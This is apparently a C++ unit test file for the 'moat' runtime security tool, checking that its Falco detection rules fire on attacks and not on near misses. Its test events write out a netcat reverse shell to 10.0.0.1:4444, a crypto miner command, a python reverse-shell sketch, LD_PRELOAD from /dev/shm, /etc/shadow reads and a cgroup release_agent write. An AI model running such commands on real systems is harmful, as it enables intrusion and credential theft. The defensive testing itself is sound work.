// moat's default runtime rules through the real rule engine: they load and compile alone and on top
// of the upstream Falco rules, and each fires on the behaviour it names and not on its near miss.
// (The end-to-end suite shows the same with real containers and the live sensor.)
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>

#include "falco_test_support.h"
#include "runtime/default_rules.h"

namespace moat::runtime::falco {
namespace {

using test::FakeProcesses;

class DefaultRules : public ::testing::Test {
 protected:
  void SetUp() override {
    rules_.load(default_rules_text(), kDefaultRulesName);
    rules_.compile();
    procs_.add(1, 0, "containerd-shim");
    procs_.add(10, 1, "nginx", "/usr/sbin/nginx", {"-g", "daemon off;"});
    procs_.add(20, 1, "bash", "/usr/bin/bash");
    container_ = test::nginx_container();
  }

  std::set<std::string> fired(const Event& ev, bool in_container = true) {
    EvalContext ctx;
    ctx.processes = &procs_;
    ctx.container = in_container ? &container_ : nullptr;
    ctx.hostname = "node-1";
    std::vector<const Rule*> out;
    rules_.match(ev, ctx, out);
    std::set<std::string> names;
    for (const Rule* r : out) names.insert(r->name);
    return names;
  }

  RuleSet rules_;
  FakeProcesses procs_;
  ContainerInfo container_;
};

TEST_F(DefaultRules, EveryRuleCompiles) {
  EXPECT_GE(rules_.compiled_rule_count(), 18u);
  for (const auto& w : rules_.warnings()) ADD_FAILURE() << w;
}

TEST_F(DefaultRules, LoadOnTopOfTheUpstreamRules) {
  std::ifstream in(std::string(MOAT_SOURCE_DIR) + "/../shared/rules/falco_rules.yaml");
  if (!in) GTEST_SKIP() << "../shared/rules/falco_rules.yaml not present";
  std::string upstream((std::istreambuf_iterator<char>(in)), {});
  RuleSet both;
  both.load(upstream, "falco_rules.yaml");
  both.load(default_rules_text(), kDefaultRulesName);
  both.compile();
  EXPECT_GT(both.compiled_rule_count(), rules_.compiled_rule_count());
}

TEST_F(DefaultRules, WebServerSpawningAShellIsAWebshell) {
  Event sh = test::exec_event("/usr/bin/dash", {"sh", "-c", "id"}, 30, 10);
  EXPECT_TRUE(fired(sh).count("moat: Web server spawned a shell or interpreter"));
  Event worker = test::exec_event("/usr/sbin/nginx", {"nginx", "-s", "reload"}, 31, 10);
  EXPECT_FALSE(fired(worker).count("moat: Web server spawned a shell or interpreter"));
  EXPECT_TRUE(fired(sh, false).empty());  // the host is not a container
}

TEST_F(DefaultRules, InteractiveShellNeedsATerminal) {
  Event sh = test::exec_event("/usr/bin/bash", {"bash"}, 40, 1);
  EXPECT_FALSE(fired(sh).count("moat: Interactive shell in container"));
  sh.tty = true;
  EXPECT_TRUE(fired(sh).count("moat: Interactive shell in container"));
}

TEST_F(DefaultRules, ReverseShellMinerAndPackageManager) {
  EXPECT_TRUE(fired(test::exec_event("/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}, 41, 20))
                  .count("moat: Reverse shell"));
  EXPECT_FALSE(fired(test::exec_event("/usr/bin/nc", {"nc", "-z", "db", "5432"}, 41, 20)).count("moat: Reverse shell"));
  EXPECT_TRUE(fired(test::exec_event("/tmp/xmrig", {"xmrig", "-o", "stratum+tcp://pool.example:3333"}, 42, 20))
                  .count("moat: Crypto miner started"));
  EXPECT_TRUE(fired(test::exec_event("/usr/bin/apt-get", {"apt-get", "install", "-y", "nmap"}, 43, 20))
                  .count("moat: Package manager in a running container"));
  EXPECT_FALSE(fired(test::exec_event("/usr/bin/ls", {"ls", "-l"}, 44, 20)).count("moat: Package manager in a running container"));
}

TEST_F(DefaultRules, StandardStreamsOnAConnectionAreAReverseShell) {
  // python3 -c 'import socket,os; s=socket.socket(); s.connect(...); os.dup2(s.fileno(), 0)' or a
  // script file doing the same: the command line says nothing, the dup does.
  Event dup = test::tcp_event(EventType::Dup, "/usr/bin/python3.11", "10.1.0.7", 40000, "203.0.113.9", 4444);
  dup.ret = 0;
  EXPECT_TRUE(fired(dup).count("moat: Reverse shell"));
  EXPECT_FALSE(fired(dup, false).count("moat: Reverse shell"));
  dup.ret = 5;  // a socket moved to another descriptor, as servers do
  EXPECT_FALSE(fired(dup).count("moat: Reverse shell"));
  dup.ret = 1;
  dup.family = AF_UNIX;  // a local socket on stdout: how supervisors hand over logs
  EXPECT_FALSE(fired(dup).count("moat: Reverse shell"));
}

TEST_F(DefaultRules, PacketSocketsAndPreloadedLibraries) {
  Event sock = test::exec_event("/usr/sbin/arpspoof", {"arpspoof"}, 45, 20);
  sock.type = EventType::Socket;
  sock.family = AF_PACKET;
  sock.ret = -1;  // refused without CAP_NET_RAW: the attempt is what counts
  EXPECT_TRUE(fired(sock).count("moat: Raw packet socket in container"));
  sock.family = AF_NETLINK;
  EXPECT_FALSE(fired(sock).count("moat: Raw packet socket in container"));

  Event preload = test::exec_event("/usr/bin/sshd", {"sshd"}, 46, 20);
  preload.env = {"PATH=/usr/bin", "LD_PRELOAD=/dev/shm/.x/libhide.so"};
  EXPECT_TRUE(fired(preload).count("moat: Library preloaded from a writable directory"));
  EXPECT_TRUE(fired(preload, false).count("moat: Library preloaded from a writable directory"));
  preload.env = {"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"};
  EXPECT_FALSE(fired(preload).count("moat: Library preloaded from a writable directory"));
  preload.env = {"PATH=/usr/bin"};
  EXPECT_FALSE(fired(preload).count("moat: Library preloaded from a writable directory"));
}

TEST_F(DefaultRules, SensitiveReadsAndAccountWrites) {
  EXPECT_TRUE(fired(test::open_event("/etc/shadow", O_RDONLY, "cat", 50, 20)).count("moat: Sensitive file read"));
  EXPECT_FALSE(fired(test::open_event("/etc/shadow", O_RDONLY, "unix_chkpwd", 50, 20)).count("moat: Sensitive file read"));
  EXPECT_FALSE(fired(test::open_event("/etc/hostname", O_RDONLY, "cat", 50, 20)).count("moat: Sensitive file read"));
  EXPECT_TRUE(fired(test::open_event("/etc/passwd", O_WRONLY | O_APPEND, "bash", 51, 20))
                  .count("moat: Write to password or sudoers files"));
  EXPECT_TRUE(fired(test::open_event("/sys/fs/cgroup/x/release_agent", O_WRONLY, "sh", 52, 20))
                  .count("moat: Write to release_agent, /proc/sys or /sys"));
}

TEST_F(DefaultRules, EscapeIndicatorsAndFilelessExecution) {
  Event mount;
  mount.type = EventType::Mount;
  mount.pid = mount.tid = 60;
  mount.ppid = 20;
  mount.comm = "mount";
  mount.path = "/mnt";
  mount.path2 = "/dev/sda1";
  EXPECT_TRUE(fired(mount).count("moat: Mount in container"));
  Event memfd = test::exec_event("memfd:payload", {"payload"}, 61, 20);
  memfd.exe_from_memfd = true;
  EXPECT_TRUE(fired(memfd, false).count("moat: Fileless execution"));  // on the host too
  Event sock;
  sock.type = EventType::Connect;
  sock.pid = sock.tid = 62;
  sock.ppid = 20;
  sock.comm = "curl";
  sock.family = AF_UNIX;
  sock.dst_addr = "/var/run/docker.sock";
  EXPECT_TRUE(fired(sock).count("moat: Container engine socket used"));
}

}  // namespace
}  // namespace moat::runtime::falco
